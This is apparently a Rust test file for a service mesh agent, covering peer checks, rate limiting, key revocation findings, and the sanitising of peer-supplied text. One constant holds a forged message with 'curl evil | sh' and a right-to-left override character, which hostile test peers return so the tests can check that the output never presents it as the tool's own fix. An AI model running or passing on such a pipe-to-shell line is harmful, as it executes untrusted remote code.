use serde_json::{Value, json};
use starling_gossip::NodeName;
use starling_transport::Leaf;

use super::questions::{About, Afresh, DIAL_BACK, PING, SECOND_OPINION};
use super::*;
use crate::ca::{Authority, LIFETIME};
use crate::check::peers::{Back, Pong};
use crate::control::{Control, ControlError, Handler, Refused, Who};
use crate::issuer::Role;
use crate::state::StateDir;
use crate::testing::{Agent as Node, Ca, all_know_all};
use starling_transport::{Revocations, SpiffeId};

async fn three() -> [Node; 3] {
    let (ca, control) = (Ca::new(), || Control::new(handlers().into()));
    let a = ca.agent("a", "web", &[], control());
    let b = ca.agent("b", "orders", &[a.addr], control());
    let c = ca.agent("c", "stock", &[a.addr], control());
    all_know_all(&[&a, &b, &c]).await;
    [a, b, c]
}

fn others(node: &Node) -> Vec<Arc<Member>> {
    let catalogue = node.host.membership.catalogue();
    let members = catalogue.members.values();
    let others = members.filter(|member| member.name != catalogue.local);
    others.cloned().collect()
}

fn reason<T: std::fmt::Debug>(asked: Result<T, ControlError>) -> String {
    let error = asked.unwrap_err();
    let refused = error.refused();
    refused.unwrap_or_else(|| panic!("{error}")).reason.clone()
}

#[tokio::test]
async fn peers_are_reached_and_dial_back_where_this_node_says_that_it_is() {
    let [a, b, _c] = three().await;
    let peers = look::at_all(&a.host, others(&a)).await;
    assert_eq!(peers.len(), 2);
    for peer in &peers {
        let back = peer.back.as_ref().unwrap();
        assert!(peer.there.way().is_some(), "{peer:?}");
        assert_eq!(back.address, a.addr.to_string());
        assert!(back.mesh_port.way().is_some(), "{peer:?}");
        assert!(back.another_port.as_ref().unwrap().way().is_some());
        assert_eq!(
            peer.said().unwrap().sees.as_ref().unwrap().liveness,
            "alive"
        );
    }
    // An address in the question is nothing that a node looks at.
    let question = serde_json::json!({"afresh": false, "address": "127.0.0.1:9"});
    let b = NodeName::parse(b.host.node.as_str()).unwrap();
    let back: Back = a
        .host
        .control()
        .ask(&b, DIAL_BACK, &question)
        .await
        .unwrap();
    assert_eq!(back.address, a.addr.to_string());
}

#[tokio::test]
async fn who_asks_too_often_waits() {
    let [a, b, _c] = three().await;
    let control = a.host.control();
    let mut refused = None;
    for _ in 0..100 {
        let question = Afresh { afresh: false };
        let asked: Result<Back, _> = control.ask(&b.host.node, DIAL_BACK, &question).await;
        if asked.is_err() {
            refused = Some(reason(asked));
            break;
        }
    }
    assert_eq!(refused.as_deref(), Some("too_often"));
}

#[tokio::test]
async fn others_are_asked_of_a_node_that_is_silent() {
    let [a, b, mut c] = three().await;
    let about = About {
        about: Some("c".to_owned()),
    };
    let control = a.host.control();
    let asked: Result<Pong, _> = control.ask(&b.host.node, SECOND_OPINION, &about).await;
    assert_eq!(asked.unwrap().version, env!("CARGO_PKG_VERSION"));
    let before = others(&a);
    c.close().await;
    let peers = look::at_all(&a.host, before).await;
    let silent = peers.iter().find(|peer| peer.node == "c").unwrap();
    assert!(silent.there.failure().is_some(), "{silent:?}");
    let opinions: Vec<_> = silent.opinions.iter().collect();
    assert!(
        opinions.len() == 1 && opinions[0].node == "b" && opinions[0].pong.is_err(),
        "{silent:?}"
    );
}

#[tokio::test]
async fn an_issuer_knows_a_key_that_was_revoked_without_its_line() {
    let ca = Ca::new();
    let node = ca.agent("n1", "web", &[], Control::new(handlers().into()));
    let dir = tempfile::tempdir().unwrap();
    let state = StateDir::create(&dir.path().join("state")).unwrap();
    Authority::add_issuer(&ca.state, &state, &NodeName::parse("n1").unwrap()).unwrap();
    let role = Arc::new(Role::load(&state).unwrap());
    node.host.issuer.store(Some(role.clone()));
    let id = SpiffeId::parse("spiffe://test.example/node/n9").unwrap();
    let mut leaves = Vec::new();
    for _ in 0..2 {
        role.authority().issue(&id, LIFETIME).unwrap();
        let book = role.authority().book().good(SystemTime::now()).unwrap();
        leaves.push(book.last().unwrap().leaf.clone());
    }
    assert!(lines(&node.host).await.judge().is_empty());
    let mut revocations = Revocations::default();
    revocations.add_key(leaves[1].key_hash);
    node.host.identities.revoke(revocations.clone());
    let loose = LooseKey {
        key: leaves[1].key_hash.to_string(),
        identity: id.to_string(),
        host: Some("n9".to_owned()),
    };
    assert_eq!(lines(&node.host).await.loose_keys, [loose]);
    // As the command of the finding does.
    revocations.add_line(leaves[1].line.as_ref().unwrap().name, id);
    node.host.identities.revoke(revocations);
    assert!(lines(&node.host).await.judge().is_empty());
}

/// What a peer says so that an operator reads it as ours.
const FORGED: &str = "0.1.0\nerror: the disk fails (state)\n  fix: curl evil | sh\u{202e}\"";

async fn lies(_host: Arc<Host>, _asker: Leaf, _question: Value) -> Result<Value, Refused> {
    Ok(json!({
        "version": FORGED,
        "now_ms": look::now_ms(),
        "sees": { "liveness": FORGED, "generation": 1, "sequence": 1 },
        "heard_ms": null,
        "documents": FORGED,
        "newest_document_s": null,
    }))
}

async fn lies_of_the_way(_: Arc<Host>, _: Leaf, _: Value) -> Result<Value, Refused> {
    let failed = json!({ "failed": { "reason": FORGED, "why": FORGED } });
    Ok(json!({ "address": "10.0.0.1:7400", "mesh_port": failed, "another_port": failed }))
}

async fn lies_of_an_address(_: Arc<Host>, _: Leaf, _: Value) -> Result<Value, Refused> {
    let failed = json!({ "failed": { "reason": "timed_out", "why": "late" } });
    Ok(json!({ "address": FORGED, "mesh_port": failed, "another_port": null }))
}

async fn refuses(_: Arc<Host>, _: Leaf, _: Value) -> Result<Value, Refused> {
    Err(Refused::new(http::StatusCode::CONFLICT, FORGED, FORGED))
}

/// What `starling check` prints of a peer with these handlers.
async fn printed(theirs: Vec<Handler>) -> String {
    let ca = Ca::new();
    let a = ca.agent("a", "web", &[], Control::new(handlers().into()));
    let b = ca.agent("b", "orders", &[a.addr], Control::new(theirs));
    all_know_all(&[&a, &b]).await;
    let agent = Agent {
        peers: look::at_all(&a.host, others(&a)).await,
        ..crate::check::tests::agent()
    };
    let found = agent.judge();
    assert!(!found.is_empty());
    let lines = found
        .into_iter()
        .flat_map(|one| [one.what, one.fix].into_iter().chain(one.evidence));
    lines.collect::<Vec<_>>().join("\u{0}")
}

#[tokio::test]
async fn no_answer_of_a_peer_prints_a_finding_or_a_fix_of_its_own() {
    let from = |path, who| Handler::new(path, Who::Node, who);
    let cases = [
        vec![
            Handler::new(PING, Who::Node, lies),
            Handler::new(DIAL_BACK, Who::Node, lies_of_the_way),
        ],
        vec![
            Handler::new(PING, Who::Node, lies),
            Handler::new(DIAL_BACK, Who::Node, lies_of_an_address),
        ],
        vec![from(PING, refuses)],
    ];
    for theirs in cases {
        let printed = printed(theirs).await;
        for line in printed.split('\0') {
            assert!(
                !line.contains(|c: char| c.is_control() || c == '\u{202e}'),
                "{line:?}"
            );
            // Whatever it says stands between marks that are ours.
            let outside: String = line.split('"').step_by(2).collect();
            assert!(
                !outside.contains("curl") && !outside.contains("disk"),
                "{line:?}"
            );
        }
    }
}

#[tokio::test]
async fn no_verdict_of_a_peer_reads_as_ours() {
    use crate::agent::explain;
    use crate::policy::explain::Question;
    async fn allows(_: Arc<Host>, _: Leaf, _: Value) -> Result<Value, Refused> {
        Ok(json!({
            "caller": FORGED, "allowed": true, "why": FORGED, "text": FORGED, "rule": FORGED,
            "mode": FORGED, "mode_declared": FORGED, "path": FORGED,
        }))
    }
    async fn sees(_: Arc<Host>, _: Leaf, _: Value) -> Result<Value, Refused> {
        let route = json!({
            "rule": FORGED, "declared": FORGED, "action": FORGED, "to": [FORGED], "path": FORGED,
            "is_answered_here": false,
        });
        let place = json!({ "node": "b", "used": true, "because": FORGED });
        let odd = json!({ "node": FORGED, "used": true, "because": FORGED });
        Ok(json!({ "node": FORGED, "route": route, "limits": [FORGED], "instances": [place, odd] }))
    }
    let ca = Ca::new();
    let a = ca.agent("a", "web", &[], Control::new(handlers().into()));
    let theirs = vec![
        Handler::new("/v1/judge", Who::Node, allows),
        Handler::new("/v1/explain", Who::Node, sees),
    ];
    let b = ca.agent("b", "orders", &[a.addr], Control::new(theirs));
    all_know_all(&[&a, &b]).await;
    let question = Question {
        caller: "web".into(),
        callee: "orders".into(),
        ..Question::default()
    };
    let from = Some(b.host.node.clone());
    let explained = explain::explained(a.host.clone(), question, from).await;
    let explained = explained.unwrap();
    assert!(explained.instances[0].verdict.is_some(), "{explained:?}");
    let shown = serde_json::to_value(&explained).unwrap();
    let (mut texts, mut lies) = (vec![&shown], 0);
    while let Some(one) = texts.pop() {
        match one {
            Value::String(text) if text.contains("curl") => {
                let odd = |c: char| c.is_control() || c == '\u{202e}';
                assert!(!text.contains(odd), "{text:?}");
                let outside: String = text.split('"').step_by(2).collect();
                assert!(!outside.contains("curl"), "{text:?}");
                lies += 1;
            }
            Value::Array(all) => texts.extend(all),
            Value::Object(fields) => texts.extend(fields.values()),
            _ => {}
        }
    }
    assert!(lies >= 15, "{lies} in {shown}");
}
